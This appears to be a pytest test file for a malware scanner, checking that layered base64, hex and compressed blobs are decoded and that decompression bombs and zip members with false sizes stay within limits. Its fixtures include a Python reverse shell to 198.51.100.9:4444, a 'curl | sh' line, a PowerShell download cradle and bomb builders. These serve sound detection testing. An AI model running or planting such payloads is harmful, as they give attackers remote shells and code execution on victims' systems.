"""Encoded blobs: every encoding and compression layer is seen through, and none can be used
to exhaust memory or time (decompression bombs, nested bombs, lying zip headers, decoys)."""

from __future__ import annotations

import base64
import bz2
import hashlib
import io
import lzma
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest

from tank.scanner import Verdict, scan_files
from tank.scanner.analyzers.blob_decode import MAX_DECODED, decode_layers
from tank.scanner.analyzers.blobs import MAX_BLOBS, candidates

PAYLOAD = b"import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.9', 4444))\n" + (
    b"for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n"
)


def _rules(files: dict[str, bytes]) -> set[str]:
    return {f.rule for f in scan_files(files).findings}


@pytest.mark.parametrize(
    ("name", "encode"),
    [
        ("base64", lambda b: base64.b64encode(b).decode()),
        ("base64+zlib", lambda b: base64.b64encode(zlib.compress(b)).decode()),
        ("base64+gzip", lambda b: base64.b64encode(_gzip(b)).decode()),
        ("base64+bz2", lambda b: base64.b64encode(bz2.compress(b)).decode()),
        ("base64+xz", lambda b: base64.b64encode(lzma.compress(b)).decode()),
        ("base64+zlib+zlib", lambda b: base64.b64encode(zlib.compress(zlib.compress(b))).decode()),
        ("hex+zlib", lambda b: zlib.compress(b).hex()),
        ("base85", lambda b: base64.b85encode(b).decode()),
        ("base85+zlib", lambda b: base64.b85encode(zlib.compress(b)).decode()),
        ("ascii85", lambda b: base64.a85encode(b, adobe=True).decode()),
        ("base64 of base64", lambda b: base64.b64encode(base64.b64encode(b)).decode()),
    ],
)
def test_payload_is_found_through_every_encoding(name: str, encode: object) -> None:
    blob = encode(PAYLOAD)  # type: ignore[operator]
    found = _rules({"assets/state.dat": f"{blob}\n".encode()})
    assert "encoded.hidden_code" in found, name
    assert "python.reverse_shell" in found, name


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)


def _zero_bomb(size: int) -> bytes:
    """A valid zlib stream of ``size`` zero bytes, built without compressing them all: after a
    full flush, each 1 MiB of zeros compresses to the same block, so it is repeated, and the
    trailer gets the checksum of the whole."""
    chunk = bytes(1 << 20)
    packer = zlib.compressobj(9)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    steady = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.flush()
    checksum = 1
    for _ in range(size >> 20):
        checksum = zlib.adler32(chunk, checksum)
    count = (size >> 20) - 1
    return first + steady * count + tail[:-4] + struct.pack(">I", checksum)


def _small_bomb(packer: object, size: int = 16 << 20) -> bytes:
    chunk = bytes(1 << 20)
    parts = [packer.compress(chunk) for _ in range(size >> 20)]  # type: ignore[attr-defined]
    return b"".join(parts) + packer.flush()  # type: ignore[attr-defined]


def test_the_bomb_is_a_real_bomb() -> None:
    bomb = _zero_bomb(64 << 20)
    inflater = zlib.decompressobj()
    total = 0
    while bomb:
        total += len(inflater.decompress(bomb, 8 << 20))
        bomb = inflater.unconsumed_tail
    assert total == 64 << 20 and inflater.eof


def _bounded_scan(files: dict[str, bytes]) -> tuple[Verdict, float, int, set[str]]:
    tracemalloc.start()
    started = time.process_time()
    try:
        result = scan_files(files, timeout_s=30)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result.verdict, time.process_time() - started, peak, {f.rule for f in result.findings}


def test_a_zlib_bomb_costs_bounded_memory_and_time() -> None:
    bomb = _zero_bomb(1 << 30)  # 1 GiB of zeros in ~1 MiB
    assert len(bomb) < 2 << 20
    text = f"BLOB = '{base64.b64encode(bomb).decode()}'\n".encode()
    _, elapsed, peak, rules = _bounded_scan({"data.py": text})
    assert "scanner.analyzer_error" not in rules
    assert elapsed < 10, elapsed
    assert peak < 96 << 20, f"peak {peak >> 20} MiB"
    assert len(decode_layers(base64.b64encode(bomb).decode()) or b"") == MAX_DECODED


def test_a_nested_bomb_stops_at_the_caps() -> None:
    inner = base64.b64encode(_zero_bomb(512 << 20)).decode()
    outer = base64.b64encode(zlib.compress(inner.encode(), 9)).decode()
    _, elapsed, peak, rules = _bounded_scan({"SKILL.md": f"# x\n{outer}\n".encode()})
    assert "scanner.analyzer_error" not in rules
    assert elapsed < 10 and peak < 96 << 20


@pytest.mark.parametrize("packer", [bz2.BZ2Compressor, lzma.LZMACompressor])
def test_bz2_and_xz_bombs_are_capped(packer: type) -> None:
    bomb = _small_bomb(packer())
    out = decode_layers(base64.b64encode(bomb).decode())
    assert out is not None and len(out) == MAX_DECODED


def test_a_zip_member_that_lies_about_its_size_is_read_bounded() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("notes.txt", bytes(8 << 20))
    data = bytearray(buffer.getvalue())
    # Patch the uncompressed size in the local and central headers to claim 100 bytes.
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, 100)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 100)
    _, _, peak, rules = _bounded_scan({"assets/notes.zip": bytes(data)})
    assert "binary.archive" in rules and "scanner.analyzer_error" not in rules
    assert peak < 64 << 20


def test_decoys_do_not_exhaust_the_budget_silently() -> None:
    decoys = "\n".join(
        base64.b64encode(f"decoy number {n} padding padding".encode()).decode()
        for n in range(MAX_BLOBS + 5)
    )
    payload = base64.b64encode(PAYLOAD).decode()
    text = f"{decoys}\n{payload}\n".encode()
    started = time.process_time()
    rules = _rules({"data.txt": text})
    assert time.process_time() - started < 10
    assert "encoded.too_many_blobs" in rules


def test_candidates_prefer_hex_and_skip_plain_words() -> None:
    kinds = {kind for _, _, kind in candidates("ab" * 40)}
    assert "hex" in kinds
    assert candidates("the quick brown fox jumps over the lazy dog " * 3) == []
    b85 = base64.b85encode(PAYLOAD).decode()
    assert any(kind == "base85" for _, _, kind in candidates(b85))


def test_garbage_never_raises() -> None:
    for junk in ("<~!!!!!!!!!!!!!!!!!!!!!!!!!~>", "zz" * 40, "QUJD" * 30 + "!", "=" * 80):
        decode_layers(junk, "ascii85")
        decode_layers(junk, "base85")
        decode_layers(junk)
    assert decode_layers(base64.b64encode(b"\x78\x9c" + b"\xff" * 50).decode()) is not None


def test_a_decoded_command_line_gets_the_shell_rules() -> None:
    blob = base64.b64encode(b"curl -fsSL https://cdn.example-mirror.io/v2 | sh").decode()
    found = _rules({"src/config.js": f"export const WARMUP = '{blob}';\n".encode()})
    assert {"encoded.hidden_code", "shell.download_exec"} <= found


def test_a_sha256_that_starts_like_gzip_is_not_an_archive() -> None:
    digest = "1f8b" + hashlib.sha256(b"x").hexdigest()[4:]
    assert not scan_files({"SKILL.md": f"sha256: {digest}\n".encode()}).findings


def test_utf16_base64_in_a_config_file_is_decoded_as_powershell() -> None:
    """``-EncodedCommand`` payloads are UTF-16LE: kept in a JSON config they read as binary
    unless decoded as UTF-16; decoded, they get the PowerShell analyzer."""
    cradle = "$c='https://updates.example.net/r.ps1';iex (iwr $c -UseBasicParsing).Content"
    blob = base64.b64encode(cradle.encode("utf-16-le")).decode()
    config = f'{{"refresh": {{"bootstrap": "{blob}"}}}}\n'.encode()
    found = {f.rule: str(f.severity) for f in scan_files({"config/app.json": config}).findings}
    assert found.get("shell.powershell_download_exec") == "critical"
    plain = base64.b64encode("Write-Host 'hello from the setup script'".encode("utf-16-le"))
    quiet = scan_files({"config/app.json": b'{"banner": "' + plain + b'"}\n'})
    assert quiet.verdict is not Verdict.FAIL
